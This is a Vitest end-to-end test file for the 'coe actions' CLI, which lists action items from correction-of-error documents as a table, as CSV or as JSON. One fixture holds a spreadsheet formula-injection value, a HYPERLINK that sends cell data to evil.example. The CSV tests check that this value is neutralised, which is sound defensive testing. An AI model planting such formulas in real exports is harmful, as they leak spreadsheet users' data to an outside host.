// `coe actions` end to end: the built CLI on COEs in a temporary folder.
// Build first: npm run build
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, runCoe, type RunResult } from '../helpers/lint.js';
import { BROKEN, LEDGER, NOW, coeText, tempFolder } from '../actions/helpers.js';

let folder: ReturnType<typeof tempFolder>;
const run = (args: string[], env: NodeJS.ProcessEnv = {}): RunResult => runCoe(['actions', ...args], { cwd: folder.dir, env });
const noStackTrace = (stderr: string) => expect(stderr).not.toMatch(/\n\s+at /);
const oneLine = (r: RunResult) => {
  expect(r.stderr.split('\n')).toHaveLength(2);
  expect(r.stderr.endsWith('\n')).toBe(true);
  noStackTrace(r.stderr);
};

// A COE whose actions a spreadsheet would take for formulas, and whose text holds commas and quotes.
const TRICKY = coeText('COE-2025-009', [
  [
    'AI-1',
    '=HYPERLINK("http://evil.example/?d="&A1, "click")',
    'short',
    '@payments-team',
    '2025-11-15',
    'open',
    'L1',
    '-1 failures',
    'team',
  ],
  ['AI-2', '+SUM(1;2)', 'mid', 'sre', '2025-11-16', 'open', 'L1', 'ok', ''],
  ['AI-3', 'Rename the "retry" flag, then the "backoff" one', 'mid', 'sre', '2025-11-17', 'done', 'L2', '@here was told', ''],
]);

beforeAll(() => {
  // The docs folder is the folder itself: `coe actions` with no path reads it.
  folder = tempFolder({ ...LEDGER, 'tricky.md': TRICKY, '.coerc.json': JSON.stringify({ docs: '.' }) });
});
afterAll(() => folder.remove());

describe('coe actions: table', () => {
  it('prints the ledger as a table fitted to COLUMNS=120: the Action cut with …, ids and dates whole', () => {
    const r = run(['--now', NOW], { COLUMNS: '120' });
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    const lines = r.stdout.split('\n');
    // Lessons and Reach give way, so that the Action has a third of the width.
    expect(lines[0]).toMatch(/^COE {11}AI {5}Action +Term +Owner +Due +Status +Overdue$/);
    for (const line of lines) expect(line.length, line).toBeLessThanOrEqual(120);
    expect(r.stdout).toMatch(/COE-2025-009 {2}AI-1 {3}=HYPERLINK\("http:\/\/evil\.example\/\?d="&A1,…/);
    for (const date of ['2025-11-15', '2025-11-16', '2025-11-17', '2025-09-01', '2026-03-01']) expect(r.stdout).toContain(date);
    expect(r.stdout).toContain('COE-2025-000  AI-1   Retry in-flight notifications');
    // A Due that is not a date, as written.
    expect(r.stdout).toMatch(/COE-2025-000 {2}AI-2 {3}Page on stuck deliveries .* next week +open\n/);
    expect(lines.at(-2)).toBe('11 action items, 4 overdue');
  });

  it('at COLUMNS=60, gives each item two lines, the Owner and the Action on the second, the Action cut with …', () => {
    const r = run(['--now', NOW], { COLUMNS: '60' });
    expect(r.code).toBe(0);
    for (const line of r.stdout.split('\n')) expect(line.length, line).toBeLessThanOrEqual(60);
    expect(r.stdout).toContain('COE-2025-009  AI-3   2025-11-17  done\n    sre             Rename the "retry" flag, then the "back…\n');
    expect(r.stdout).toContain(
      'COE-2025-009  AI-1   2025-11-15  open         16 d\n    @payments-team  =HYPERLINK("http://evil.example/?d="&A1…\n',
    );
  });

  it('fits 100 columns when stdout is not a terminal and COLUMNS is not set, with no colour', () => {
    const r = run(['--now', NOW], { COLUMNS: undefined, NO_COLOR: undefined });
    expect(r.code).toBe(0);
    expect(Math.max(...r.stdout.split('\n').map((l) => l.length))).toBeLessThanOrEqual(100);
    expect(r.stdout).not.toContain('\u001b');
  });

  it('says so when the filters leave no item', () => {
    expect(run(['--now', NOW, '--owner', 'nobody'])).toEqual({ code: 0, stdout: 'No action items match the filters.\n', stderr: '' });
  });
});

describe('coe actions: CSV', () => {
  it('is RFC 4180 that a CSV parser reads back, commas and quotes in an action intact, formulas neutralised', () => {
    const r = run(['--now', NOW, '--format', 'csv', '--coe', 'COE-2025-009']);
    expect(r.code).toBe(0);
    expect(r.stdout.split('\r\n').at(-1)).toBe('');
    const records = parse(r.stdout, { record_delimiter: '\r\n' }) as string[][];
    expect(records[0]).toEqual([
      'COE',
      'AI',
      'Action',
      'Term',
      'Owner',
      'Due',
      'Status',
      'Reach',
      'Lessons',
      'Days overdue',
      'Validation',
      'File',
      'Line',
    ]);
    expect(records.slice(1).map((rec) => rec.slice(0, 11))).toEqual([
      [
        'COE-2025-009',
        'AI-1',
        `'=HYPERLINK("http://evil.example/?d="&A1, "click")`,
        'short',
        "'@payments-team",
        '2025-11-15',
        'open',
        'team',
        'L1',
        '16',
        "'-1 failures",
      ],
      ['COE-2025-009', 'AI-2', "'+SUM(1;2)", 'mid', 'sre', '2025-11-16', 'open', '', 'L1', '15', 'ok'],
      [
        'COE-2025-009',
        'AI-3',
        'Rename the "retry" flag, then the "backoff" one',
        'mid',
        'sre',
        '2025-11-17',
        'done',
        '',
        'L2',
        '',
        "'@here was told",
      ],
    ]);
    expect(records[1]![11]).toBe('tricky.md');
    for (const rec of records) for (const cell of rec) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });
});

describe('coe actions: JSON', () => {
  it('validates against schemas/actions.schema.json', () => {
    const schema = JSON.parse(readFileSync(path.join(ROOT, 'schemas/actions.schema.json'), 'utf8')) as object;
    const ajv = new Ajv2020({ allErrors: true, strict: true });
    addFormats.default(ajv);
    const validate = ajv.compile(schema);
    const r = run(['--now', NOW, '--format', 'json']);
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout) as { daysOverdue: number | null }[];
    expect(rows).toHaveLength(11);
    expect(validate(rows), JSON.stringify(validate.errors)).toBe(true);
    // The schema is not a formality: a wrong row fails it.
    expect(validate([{ ...rows[0], daysOverdue: 0 }])).toBe(false);
    expect(validate([{ ...rows[0], due: '1/12/2025' }])).toBe(false);
  });
});

describe('coe actions --check', () => {
  it('exits 1 when a listed item is overdue, 0 when none is, after the filters', () => {
    const overdue = run(['--now', NOW, '--check', '--overdue']);
    expect(overdue.code).toBe(1);
    expect(overdue.stdout).toContain('4 action items, 4 overdue');
    expect(run(['--now', NOW, '--check', '--coe', 'COE-2025-002']).code).toBe(0);
    expect(run(['--now', NOW, '--check', '--status', 'done,validated,dropped']).code).toBe(0);
    expect(run(['--now', '2025-09-01', '--check']).code).toBe(0);
    expect(run(['--now', NOW, '--check', '--format', 'json']).code).toBe(1);
  });

  it('exits 0 without --check, overdue items or not', () => {
    expect(run(['--now', NOW, '--overdue']).code).toBe(0);
  });
});

describe('coe actions: bad usage exits 2 with one line', () => {
  it.each<[string, string[], RegExp]>([
    ['a bad date', ['--now', '2025-13-01'], /^coe: --now "2025-13-01" is not a date written YYYY-MM-DD\n$/],
    ['a bad --due-before', ['--due-before', 'tomorrow'], /^coe: --due-before "tomorrow" is not a date/],
    ['an unknown status', ['--status', 'open,don'], /^coe: Unknown status "don" in --status \(did you mean "done"\?\)/],
    ['an unknown format', ['--format', 'xlsx'], /^error: option '-f, --format <format>' argument 'xlsx' is invalid/],
    ['an unknown COE', ['--coe', 'COE-2025-0001'], /^coe: No COE with the id "COE-2025-0001"/],
  ])('%s', (_what, args, message) => {
    const r = run(args);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(message);
    oneLine(r);
  });

  it('a path with no COEs, and a path that does not exist', () => {
    const empty = tempFolder({ 'notes.md': '# Notes\n' });
    try {
      const r = runCoe(['actions', empty.dir]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/^coe: No COE documents \(Markdown with a "coe" frontmatter key\) in .+: no action items to list\n$/);
      oneLine(r);
    } finally {
      empty.remove();
    }
    const missing = run(['no-such-folder']);
    expect(missing.code).toBe(2);
    oneLine(missing);
  });
});

describe('coe actions: unreadable COEs', () => {
  it('notes each on stderr in one line and lists the items of the others', () => {
    const odd = tempFolder({ ...LEDGER, 'broken.md': BROKEN, 'broken-too.md': BROKEN.replace('COE-2025-099', 'COE-2025-098') });
    try {
      const r = runCoe(['actions', '--now', NOW, '--format', 'json', '.'], { cwd: odd.dir });
      expect(r.code).toBe(0);
      const notes = r.stderr.trimEnd().split('\n');
      expect(notes).toHaveLength(2);
      expect(notes[0]).toMatch(/^coe: broken-too\.md: not listed, the COE cannot be read: /);
      expect(notes[1]).toMatch(/^coe: broken\.md: not listed, the COE cannot be read: /);
      expect(JSON.parse(r.stdout)).toHaveLength(8);
    } finally {
      odd.remove();
    }
  });
});

describe('coe actions: determinism', () => {
  it('gives the same bytes whatever order the files are named in, every format, twice', () => {
    const files = ['a.md', 'b.md', 'c.md', 'tricky.md'];
    for (const format of ['table', 'csv', 'json']) {
      const outputs = [files, [...files].reverse(), ['c.md', 'tricky.md', 'a.md', 'b.md'], files].map(
        (order) => run(['--now', NOW, '--format', format, ...order], { COLUMNS: '100' }).stdout,
      );
      expect(new Set(outputs).size, format).toBe(1);
      expect(outputs[0]!.length).toBeGreaterThan(100);
    }
  });
});

describe('coe actions -o', () => {
  it('writes the file, never over an existing one without --force, never over a COE', () => {
    expect(run(['--now', NOW, '-f', 'csv', '-o', 'ledger.csv'])).toEqual({ code: 0, stdout: '', stderr: '' });
    const written = readFileSync(path.join(folder.dir, 'ledger.csv'), 'utf8');
    expect(written).toBe(run(['--now', NOW, '-f', 'csv']).stdout);
    const again = run(['--now', NOW, '-f', 'csv', '-o', 'ledger.csv']);
    expect(again.code).toBe(2);
    expect(again.stderr).toBe('coe: ledger.csv already exists; choose another file or use --force to overwrite it\n');
    writeFileSync(path.join(folder.dir, 'ledger.csv'), 'old');
    expect(run(['--now', NOW, '-f', 'csv', '-o', 'ledger.csv', '--force']).code).toBe(0);
    expect(readFileSync(path.join(folder.dir, 'ledger.csv'), 'utf8')).toBe(written);
    const overCoe = run(['--now', NOW, '-o', 'a.md', '--force']);
    expect(overCoe.code).toBe(2);
    expect(overCoe.stderr).toBe('coe: -o a.md is a.md, one of the COEs listed; write to another file\n');
    expect(readFileSync(path.join(folder.dir, 'a.md'), 'utf8')).toBe(LEDGER['a.md']);
  });
});

describe('coe actions --help', () => {
  it('names every filter, the formats and the exit codes', () => {
    const r = runCoe(['actions', '--help']);
    expect(r.code).toBe(0);
    for (const flag of [
      '--status',
      '--owner',
      '--overdue',
      '--due-before',
      '--unvalidated',
      '--coe',
      '--since',
      '--until',
      '--now',
      '--check',
      '--format',
      '-o, --output',
    ])
      expect(r.stdout).toContain(flag);
    expect(r.stdout).toContain('choices: "table", "csv", "json"');
    expect(r.stdout).toContain('Exit codes');
    expect(runCoe(['--help']).stdout).toMatch(/\n {2}actions \[options\] \[paths\.\.\.\] +Every action item of every COE/);
  });
});
